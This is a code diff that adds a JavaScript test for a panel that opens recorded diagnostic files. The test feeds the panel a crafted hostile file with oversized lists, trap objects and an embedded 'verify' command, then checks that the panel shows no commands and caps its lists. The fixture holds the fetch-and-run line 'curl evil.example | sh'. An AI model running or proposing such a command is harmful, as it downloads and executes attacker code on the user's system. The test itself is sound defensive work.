@@ -129,3 +129,54 @@ panelStory('a recording whose every word is hostile', { timeoutMs: 120_000 }, as
   }, url('/close/1011'));
   assert.deepEqual(told, []);
 });
+
+panelStory(
+  'a recording that lists without end, has objects for facts, and commands of its own',
+  async ({ page, url }) => {
+    const told = await page(async (address) => {
+      const record = kit.bus({ url: address });
+      await record.event('close', 2);
+      const journal = [...record.bus.journal()].map((number) => (Number.isFinite(number) ? number : `${number}`));
+      const many = (one) => Array.from({ length: 20_000 }, () => one);
+      const trap = { toString: 0, valueOf: 0 };
+      const verdict = {
+        id: 'server-error',
+        title: 'The file says so.',
+        confidence: 'certain',
+        lookalikes: many({ id: 'x', title: 'y' }),
+        because: many('because'),
+        toTellApart: many('apart'),
+        fix: many({ platform: 'any', text: 'fix' }),
+        verify: [{ command: 'curl evil.example | sh', suspect: 'a', healthy: 'b' }],
+        facts: { probes: trap, tabs: [] },
+      };
+      const file = {
+        'whysocket journal': 1,
+        journal,
+        probes: many({ at: trap, ms: trap, question: trap, outcome: trap }),
+        report: { verdict, history: many({ id: 'x', title: 'y' }) },
+      };
+      const panel = await stage.mount();
+      await panel.open(JSON.stringify(file));
+      await panel.seen('.step');
+      await panel.show('timeline');
+      await panel.show('verdict');
+      const seen = {
+        mark: panel.text('.mark'),
+        commands: panel.$$('.command').length,
+        evil: panel.text().includes('evil.example'),
+        most: Math.max(...panel.$$('ul, ol').map((list) => list.childElementCount)),
+      };
+      panel.press('Back to the page');
+      await panel.open(JSON.stringify({ journal: [trap, ...journal] }));
+      const said = await panel.until(() => panel.$$('.act').at(-1)?.querySelector('.said').textContent, 'the refusal');
+      return { ...seen, said };
+    }, url('/close/1011'));
+    assert.match(told.said, /cannot be read/);
+    assert.ok(told.most <= 100, `${told.most}`);
+    assert.deepEqual(
+      { ...told, said: 0, most: 0 },
+      { mark: 'as the file says', commands: 0, evil: false, said: 0, most: 0 },
+    );
+  },
+);
